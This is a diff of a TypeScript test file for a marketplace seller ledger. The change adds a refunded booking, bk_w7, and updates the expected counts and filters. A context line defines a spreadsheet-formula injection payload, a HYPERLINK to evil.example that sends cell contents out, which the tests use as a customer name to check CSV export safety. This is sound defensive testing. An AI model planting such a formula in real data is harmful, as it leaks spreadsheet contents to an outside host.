@@ -27,10 +27,12 @@ type Entry = {
 const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
 /**
  * The seed's payments (worker/db/seed-data.ts, dated relative to the day it is laid): bk_w4 paid about ten months
- * ago, bk_w6 paid seven weeks ago and refunded four days later. Refs and days come from the seed's calendar.
+ * ago, bk_w6 paid seven weeks ago and refunded four days later, bk_w7 paid two weeks ago and refunded by the expiry. Refs and days come from the seed's calendar.
  */
 const W4 = { ref: "", amount: 5_066_788, day: "" };
 const W6 = { ref: "", amount: 955_694, paidDay: "", refundDay: "" };
+/** bk_w7: paid two weeks ago, left unanswered and refunded by the 48-hour expiry. */
+const W7 = { ref: "" };
 /** A stored instant as a day in India (YYYY-MM-DD) and as the CSV writes it (dd/mm/yyyy). */
 const dayInIndia = (iso: string) => todayInIndia(new Date(iso));
 const csvDay = (day: string) => day.split("-").reverse().join("/");
@@ -54,6 +56,7 @@ beforeAll(async () => {
   const { bookings, payments } = w.seed;
   Object.assign(W4, { ref: bookings.bk_w4.ref, day: dayInIndia(payments.bk_w4.capturedAt) });
   const refunded = payments.bk_w6.refund?.processedAt ?? "";
+  W7.ref = bookings.bk_w7.ref;
   Object.assign(W6, { ref: bookings.bk_w6.ref, paidDay: dayInIndia(payments.bk_w6.capturedAt), refundDay: dayInIndia(refunded) });
   [sellerA, sellerB, customer] = await Promise.all([loginViaApi(w, SELLER_A), loginViaApi(w, SELLER_B), newCustomer(w, "ledger")]);
   // Customer names are user input: this one is a spreadsheet formula.
@@ -162,14 +165,14 @@ describe("each seller's share of one checkout", () => {
     );
     expect(received).toBeGreaterThanOrEqual(W4.amount + W6.amount + paid.a.total);
     expect(a.totals).toEqual({ received, refunded, net: received - refunded, refundPending: 0 });
-    // Every payment share and every refund of seller A, counted in the tables: the seed's bk_w4 and bk_w6 payments,
-    // bk_w6's refund, and this file's checkout.
+    // Every payment share and every refund of seller A, counted in the tables: the seed's bk_w4, bk_w6 and bk_w7
+    // payments, bk_w6's and bk_w7's refunds, and this file's checkout.
     const entries =
       (await sum(
         "SELECT count(*) AS n FROM payment_items i JOIN payments p ON p.id = i.payment_id WHERE i.seller_id = ? AND p.status = 'captured'",
         "s_wanderlust",
       )) + (await sum("SELECT count(*) AS n FROM refunds WHERE seller_id = ?", "s_wanderlust"));
-    expect(entries).toBe(4);
+    expect(entries).toBe(6);
     expect(a.pagination.total).toBe(entries);
     expect(a.data).toHaveLength(entries);
 
@@ -221,7 +224,7 @@ describe("filters", () => {
     expect(received.totals).toEqual(all.totals);
     expect((await ledger(sellerB, "?status=refund-pending")).data).toEqual([]);
     const a = await ledger(sellerA, "?status=refunded");
-    expect(a.data.map((e) => e.bookingRef)).toEqual([W6.ref]);
+    expect(a.data.map((e) => e.bookingRef)).toEqual([W7.ref, W6.ref]);
   });
 
   it("pages the entries newest first", async () => {
